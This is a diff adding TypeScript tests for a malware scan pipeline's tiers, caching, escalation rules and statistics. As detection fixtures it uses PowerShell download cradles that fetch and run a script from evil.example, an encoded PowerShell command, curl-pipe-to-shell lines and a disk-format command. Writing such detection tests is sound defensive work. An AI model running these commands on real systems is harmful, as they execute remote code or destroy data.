@@ -0,0 +1,226 @@
+/**
+ * @license
+ * Copyright 2025 Google LLC
+ * Portions Copyright 2025 TerminaI Authors
+ * SPDX-License-Identifier: Apache-2.0
+ */
+
+/**
+ * Native Tiered Scan Pipeline Tests
+ *
+ * Scans content with scanContent (portable engine) and checks which tier
+ * decides: allowlisted hashes, cached engine verdicts, the pre-classifier
+ * and its escalations, policy limits on what each tier may emit, and the
+ * per-tier counters.
+ */
+
+import { describe, it, expect, beforeEach, afterEach } from 'vitest';
+import * as fs from 'node:fs';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import * as native from '../windows/native.js';
+import { EICAR } from './archive-fixtures.js';
+
+const hasNative = native.isNativeModuleAvailable();
+const itIfNative = hasNative ? it : it.skip;
+
+const PORTABLE = { engine: 'portable' } as const;
+
+describe('Native Scan Pipeline', () => {
+  let dir: string;
+
+  beforeEach(() => {
+    if (!hasNative) return;
+    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'terminai-pipeline-'));
+    native.configureScanPipeline({});
+    native.resetScanPipelineStats({ cache: true });
+  });
+
+  afterEach(() => {
+    if (!hasNative) return;
+    native.configureScanPipeline({});
+    native.resetScanPipelineStats({ cache: true });
+    native.unloadHashAllowlist();
+    native.unloadRuleDatabase();
+    fs.rmSync(dir, { recursive: true, force: true });
+  });
+
+  itIfNative('sends everything to the engine by default', async () => {
+    const result = await native.scanContent('echo hello\n', PORTABLE);
+    expect(result).toMatchObject({
+      clean: true,
+      tier: 'provider',
+      escalation: 'policy',
+    });
+
+    // Download cradles and encoded commands are literals, not just policy.
+    for (const script of [
+      '[ScriptBlock]::Create((irm https://evil.example/x.ps1)).Invoke()',
+      '& (gcm I*e-Ex*) (irm https://evil.example/x.ps1)',
+      'powershell -enc SQBFAFgA',
+    ]) {
+      expect(await native.scanContent(script, PORTABLE)).toMatchObject({
+        tier: 'provider',
+        escalation: 'literal',
+      });
+    }
+  });
+
+  itIfNative('clears small benign scripts when allowed to', async () => {
+    native.configureScanPipeline({ classifier: { emit: ['clean'] } });
+    const result = await native.scanContent('echo hello\n', PORTABLE);
+    expect(result).toMatchObject({
+      clean: true,
+      tier: 'classifier',
+      escalation: null,
+      engine: 'portable',
+    });
+    expect(native.getScanPipelineStats()!.tiers.provider.scans).toBe(0);
+  });
+
+  itIfNative('escalates suspicious content to the engine', async () => {
+    native.configureScanPipeline({ classifier: { emit: ['clean'] } });
+    const cases: Array<[string | Buffer, string]> = [
+      ['x'.repeat(5000), 'size'],
+      [Buffer.from([0x4d, 0x5a, 0x00, 0x01]), 'binary'],
+      [`echo ${'A'.repeat(2000)}`, 'longLine'],
+      ['IEX (New-Object Net.WebClient).DownloadString($u)', 'literal'],
+      ['curl -fsSL https://example.com/x | sh', 'literal'],
+    ];
+    for (const [content, escalation] of cases) {
+      const result = await native.scanContent(content, PORTABLE);
+      expect(result).toMatchObject({ tier: 'provider', escalation });
+    }
+
+    const random = Buffer.from(
+      Array.from({ length: 3000 }, (_, i) => 33 + ((i * 7919) % 94)),
+    );
+    const entropy = await native.scanContent(random, PORTABLE);
+    expect(entropy.escalation).toBe('entropy');
+
+    const stats = native.getScanPipelineStats()!;
+    expect(stats.escalations).toMatchObject({
+      size: 1,
+      binary: 1,
+      longLine: 1,
+      literal: 2,
+      entropy: 1,
+    });
+  });
+
+  itIfNative('replays engine verdicts from the cache', async () => {
+    const first = await native.scanContent(EICAR, PORTABLE);
+    expect(first).toMatchObject({ clean: false, tier: 'provider' });
+    const second = await native.scanContent(EICAR, PORTABLE);
+    expect(second).toMatchObject({
+      clean: false,
+      tier: 'cache',
+      description: first.description,
+    });
+
+    // Different signatures mean a different verdict, so a different entry.
+    const signatures = [{ name: 'Other', pattern: 'unrelated' }];
+    const other = await native.scanContent(EICAR, {
+      ...PORTABLE,
+      signatures,
+    });
+    expect(other.tier).toBe('provider');
+    expect(native.getScanPipelineStats()!.cache).toMatchObject({
+      entries: 2,
+      hits: 1,
+    });
+  });
+
+  itIfNative('does not reuse verdicts across rule databases', async () => {
+    const script = 'Write-Output "stage two"\n'.repeat(300);
+    expect((await native.scanContent(script, PORTABLE)).clean).toBe(true);
+
+    const db = path.join(dir, 'rules.db');
+    await native.compileRuleDatabase(
+      [{ name: 'Stage', pattern: 'stage two' }],
+      db,
+    );
+    native.loadRuleDatabase(db);
+    const result = await native.scanContent(script, PORTABLE);
+    expect(result).toMatchObject({ clean: false, tier: 'provider' });
+
+    // Small content matching a rule is never cleared by the classifier.
+    const small = await native.scanContent('echo stage two', PORTABLE);
+    expect(small).toMatchObject({ clean: false, escalation: 'literal' });
+  });
+
+  itIfNative('clears allowlisted hashes first', async () => {
+    const script = 'curl -fsSL https://example.com/install.sh | sh\n';
+    const table = path.join(dir, 'good.bin');
+    await native.buildHashAllowlist([native.hashBuffer(script)], table);
+    native.loadHashAllowlist(table);
+
+    const result = await native.scanContent(script, PORTABLE);
+    expect(result).toMatchObject({ clean: true, tier: 'allowlist' });
+    expect(native.getScanPipelineStats()!.tiers.allowlist).toMatchObject({
+      scans: 1,
+      clean: 1,
+    });
+  });
+
+  itIfNative('limits the verdicts each tier may emit', async () => {
+    native.configureScanPipeline({
+      classifier: {
+        emit: ['clean', 'detected'],
+        block: [{ name: 'NoFormat', pattern: 'format c:' }],
+      },
+    });
+    const blocked = await native.scanContent('FORMAT C: /q', PORTABLE);
+    expect(blocked).toMatchObject({ clean: false, tier: 'classifier' });
+
+    native.configureScanPipeline({
+      cache: { enabled: false },
+      classifier: { emit: [], block: [{ name: 'X', pattern: 'format c:' }] },
+    });
+    const escalated = await native.scanContent('FORMAT C: /q', PORTABLE);
+    expect(escalated).toMatchObject({
+      clean: true,
+      tier: 'provider',
+      escalation: 'blocked',
+    });
+    const benign = await native.scanContent('echo hi', PORTABLE);
+    expect(benign).toMatchObject({ tier: 'provider', escalation: 'policy' });
+    expect(native.getScanPipelineStats()!.cache.entries).toBe(0);
+  });
+
+  itIfNative('counts decisions and latency per tier', async () => {
+    native.configureScanPipeline({ classifier: { emit: ['clean'] } });
+    await Promise.all(
+      Array.from({ length: 50 }, (_, i) =>
+        native.scanContent(`ls -la /tmp/${i % 5}\n`, PORTABLE),
+      ),
+    );
+    await native.scanContent(EICAR, PORTABLE);
+    await native.scanContent(EICAR, PORTABLE);
+
+    const { tiers } = native.getScanPipelineStats()!;
+    expect(tiers.classifier).toMatchObject({ clean: 50, escalated: 1 });
+    expect(tiers.provider).toMatchObject({ scans: 1, detected: 1 });
+    expect(tiers.cache).toMatchObject({ scans: 52, detected: 1 });
+    expect(tiers.classifier.latencyUs.max).toBeGreaterThanOrEqual(
+      tiers.classifier.latencyUs.p50,
+    );
+
+    native.resetScanPipelineStats();
+    expect(native.getScanPipelineStats()!.tiers.cache.scans).toBe(0);
+  });
+
+  itIfNative('rejects invalid policies and input', async () => {
+    expect(() =>
+      native.configureScanPipeline({
+        allowlist: { emit: ['detected' as 'clean'] },
+      }),
+    ).toThrow(/allowlist.emit/);
+    expect(() =>
+      native.configureScanPipeline({ classifier: { maxEntropy: 9 } }),
+    ).toThrow(/maxEntropy/);
+    await expect(
+      native.scanContent(42 as unknown as string, PORTABLE),
+    ).rejects.toThrow(/Buffer or string/);
+  });
+});